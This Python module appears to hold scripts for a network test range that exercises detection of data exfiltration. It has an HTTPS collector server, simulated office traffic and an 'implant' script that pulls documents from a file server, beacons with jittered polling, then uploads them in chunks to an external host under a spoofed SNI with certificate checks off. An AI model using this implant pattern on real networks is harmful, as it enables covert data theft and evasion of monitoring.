"""The programs that run inside the range's namespaces (``python -c`` scripts, parameters on argv)."""

# External HTTPS server (lt-ext): GET → a small reply; POST → reads the body in 64 KB reads and records the
# running total of body bytes received in a file (the test's ground truth for "less than the full upload").
HTTPS_SERVER = r"""
import http.server, os, ssl, sys, threading, time
cert, key, count_path = sys.argv[1], sys.argv[2], sys.argv[3]
total = 0
lock = threading.Lock()
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def do_GET(self):
        body = b'{"cmd":"sleep","t":1}'
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        global total
        left = int(self.headers.get("Content-Length", "0"))
        while left > 0:
            data = self.rfile.read(min(65536, left))
            if not data:
                break
            left -= len(data)
            with lock:
                if total == 0:
                    with open(count_path + ".first", "w") as f:
                        f.write(repr(time.time()))
                total += len(data)
                with open(count_path + ".tmp", "w") as f:
                    f.write(str(total))
                os.replace(count_path + ".tmp", count_path)
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers(); self.wfile.write(b"ok")
srv = http.server.ThreadingHTTPServer(("0.0.0.0", 443), H)
srv.daemon_threads = True
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
print("ready", flush=True)
srv.serve_forever()
"""

# The compromised PC (lt-pc): fetch the documents from the file server, beacon, then upload them in pieces
# over one HTTPS connection (reconnecting like a real implant when it breaks). Prints JSON events.
IMPLANT = r"""
import http.client, json, random, socket, ssl, sys, time, urllib.request
fs_url, ext_ip, sni, n_docs, beacon_s, piece, pause = sys.argv[1:8]
n_docs, beacon_s, piece, pause = int(n_docs), float(beacon_s), int(piece), float(pause)
def say(**kw):
    kw["t"] = time.time(); print(json.dumps(kw), flush=True)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
class Conn(http.client.HTTPSConnection):
    def connect(self):  # to the server's address, with the server name in the TLS SNI and the Host header
        self.sock = ctx.wrap_socket(socket.create_connection((ext_ip, 443), timeout=3), server_hostname=sni)
docs = []
for i in range(n_docs):
    data = urllib.request.urlopen(f"{fs_url}/doc{i:02d}.docx", timeout=5).read()
    docs.append(data)
say(event="fetched", docs=len(docs), bytes=sum(map(len, docs)))
end = time.time() + beacon_s
n = 0
while time.time() < end:
    try:
        c = Conn(sni, 443, timeout=3, context=ctx)
        c.request("GET", "/api/v1/poll?id=7f3a"); c.getresponse().read(); c.close()
    except (OSError, http.client.HTTPException):
        pass
    n += 1
    time.sleep(random.uniform(0.7, 1.3))
say(event="beaconed", n=n)
blob = b"".join(docs)
sent = 0
conn = None
failures = 0
say(event="upload-start", total=len(blob))
while sent < len(blob) and failures < 3:
    try:
        if conn is None:
            conn = Conn(sni, 443, timeout=3, context=ctx)
        part = blob[sent:sent + piece]
        conn.request("POST", "/api/v1/sync", body=part, headers={"Content-Type": "application/octet-stream"})
        conn.getresponse().read()
        sent += len(part)
        time.sleep(pause)
    except (OSError, http.client.HTTPException) as exc:
        failures += 1
        say(event="upload-error", error=type(exc).__name__, sent=sent)
        conn = None
say(event="upload-end", sent=sent, total=len(blob))
"""

# Office background (lt-pc, many source addresses): a few HTTPS requests each to a shared business server, at
# random times, so the range has a population of hosts (prevalence is then judged, not assumed).
OFFICE = r"""
import random, socket, ssl, sys, time, threading
server, sni, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
ips = sys.argv[4:]
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
def user(ip):
    # the office is at work before the attack starts: a first request early, then two more at random
    for t in sorted([random.uniform(0, 5)] + [random.uniform(0, seconds) for _ in range(2)]):
        time.sleep(max(0.0, t - (time.time() - start)))
        try:
            raw = socket.create_connection((server, 443), timeout=3, source_address=(ip, 0))
            with ctx.wrap_socket(raw, server_hostname=sni) as s:
                s.sendall(f"GET /portal/news HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n".encode())
                while s.recv(65536):
                    pass
        except OSError:
            pass
start = time.time()
threads = [threading.Thread(target=user, args=(ip,)) for ip in ips]
for th in threads: th.start()
for th in threads: th.join()
print("done", flush=True)
"""
